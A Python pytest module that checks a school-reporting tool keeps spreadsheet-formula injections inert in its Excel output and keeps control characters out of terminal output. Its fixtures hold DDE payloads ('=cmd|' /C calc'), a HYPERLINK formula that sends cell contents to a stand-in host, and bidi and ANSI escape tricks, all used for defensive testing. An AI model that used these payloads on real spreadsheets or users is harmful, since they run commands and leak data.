"""Texts that are formulas elsewhere stay texts in every table we write, and what we show is plain.

A school types ``=cmd|…`` into every text there is; the bureau opens our tables in Excel.
"""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from itertools import cycle
from pathlib import Path

import openpyxl
import pytest
from openpyxl.cell import Cell

from models.demo.returns import school_revision
from models.forms.applicability import forms_for, grid_rows
from models.forms.compute import fill_computed
from models.forms.context import ReturnContext
from models.forms.definition import Form
from models.forms.field_types import field_types
from models.forms.payload import canonical
from models.forms.plain_text import shown
from models.records import Content, FormData, Part, Row, Unit, Value
from models.workbook.writer import write_workbook
from models.workspace import Workspace
from tests.hostile.planted import BUREAU
from tests.models.headless.running import Terminal
from tests.models.workbook.editing import repacked
from tests.resources.teacher import JUNIOR, PERIOD, shipped

TEXTS = (
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/"&A1,"点我")',
    "=1+1",
)
_MARKS = ("=", "+", "-", "@")


def dangerous(unit: Unit) -> Content:
    """Return a return in which every text of the figures is a formula."""
    texts = cycle(TEXTS)
    types = field_types(shipped())

    def row(form: Form, row_id: str) -> Row:
        values: dict[str, Value] = {}
        for item in form.fields:
            if item.type in {"text", "note"} and not item.compute:
                values[item.id] = next(texts)
            elif types.of(item).numeric and not item.compute:
                parsed = types.of(item).parse("3").value
                values |= {} if parsed is None else {item.id: parsed}
        return Row(row_id, values)

    def rows(form: Form) -> Iterator[Row]:
        if form.shape == "single":
            yield row(form, "1")
        elif form.shape == "grid":
            yield from (row(form, item.code) for item in grid_rows(shipped(), form, unit))
        else:
            yield from (row(form, f"G00000000{number}AAAA") for number in (1, 2))

    forms = [form for form in forms_for(shipped(), unit) if form.part is Part.FIGURES]
    return Content({form.id: FormData(tuple(rows(form))) for form in forms})


@pytest.fixture(scope="module")
def sent(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return the workbook of a school that typed formulas."""
    path = tmp_path_factory.mktemp("sent") / "数字表.xlsx"
    ctx = ReturnContext(shipped(), JUNIOR, PERIOD)
    content = canonical(shipped(), fill_computed(ctx, dangerous(JUNIOR)))
    made = school_revision(ctx, content)
    write_workbook(ctx, content, made, Part.FIGURES, path, prepared_rows=0)
    return path


@pytest.fixture(scope="module")
def county(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("county") / "bureau"
    named = Unit("2145000019", TEXTS[0], "12", JUNIOR.town, facts={"address": TEXTS[1]})
    with Workspace.open(folder, create=True) as workspace:
        workspace.set_up(shipped(), PERIOD, (JUNIOR, named, BUREAU))
    return folder


@pytest.fixture
def bureau(county: Path, tmp_path: Path) -> Path:
    """Return the data of a bureau in whose registry a school is called like a formula."""
    return Path(shutil.copytree(county, tmp_path / "bureau"))


def cells(path: Path) -> list[Cell]:
    book = openpyxl.load_workbook(path)
    found = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    return [cell for cell in found if isinstance(cell, Cell) and cell.value is not None]


def assert_harmless(path: Path) -> int:
    """See that no cell of a table runs what people typed; return how many of it there are."""
    typed = [cell for cell in cells(path) if str(cell.value).startswith(TEXTS)]
    assert [cell.coordinate for cell in typed if cell.data_type != "s"] == []
    begun = [cell for cell in typed if str(cell.value).startswith(_MARKS)]
    assert [cell.coordinate for cell in begun if not cell.quotePrefix] == []
    formulas = [str(cell.value) for cell in cells(path) if cell.data_type == "f"]
    assert [text for text in formulas if "cmd" in text or "HYPERLINK" in text] == []
    return len(typed)


def test_the_workbook_of_a_school(sent: Path) -> None:
    assert assert_harmless(sent) > 50


def test_what_the_bureau_writes(
    terminal: Terminal, bureau: Path, sent: Path, tmp_path: Path
) -> None:
    """The blank workbook of a school named like a formula, and the tables of the summary."""
    ran = terminal.run("import", bureau, sent)
    assert "收下1/1个" in ran.out
    terminal.run("report", bureau, "--xlsx", tmp_path / "附表.xlsx")
    terminal.run("task", bureau, tmp_path / "down")

    tables = [tmp_path / "附表.xlsx", *(tmp_path / "down").glob("*.xlsx")]
    assert len(tables) > 2
    assert sum(map(assert_harmless, tables)) > 0


def test_names_and_texts_steer_no_terminal(
    terminal: Terminal, bureau: Path, sent: Path, tmp_path: Path
) -> None:
    """Control characters and marks of direction: in the name of the file, of a sheet, in cells."""
    tricks = "\u202e", "\u2066", "\u200b"

    def rename(data: bytes) -> bytes:
        old = b'name="F01'
        assert old in data
        return data.replace(old, 'name="F\u202e01'.encode(), 1)

    def retype(data: bytes) -> bytes:
        return data.replace(b"cmd|", "c\u202emd\u2066|\u200b".encode())

    book = openpyxl.load_workbook(sent)
    forms = [at for at, name in enumerate(book.sheetnames, 1) if not name.startswith("_")]
    book.close()
    sheets = dict.fromkeys((f"xl/worksheets/sheet{at}.xml" for at in forms), retype)
    changed = repacked(sent.read_bytes(), {"xl/workbook.xml": rename} | sheets)
    path = tmp_path / "报\u202e表\x1b[2J.xlsx"
    path.write_bytes(changed)
    ran = terminal.run("import", bureau, path)
    checked = terminal.run("check", bureau)

    assert "收下1/1个" in ran.out
    for text in (ran.out, ran.err, checked.out):
        assert not [mark for mark in (*tricks, "\x1b") if mark in text]
        assert [line for line in text.splitlines() if shown(line) != line] == []
    assert ran.lines[0].startswith("报�表�[2J.xlsx：")
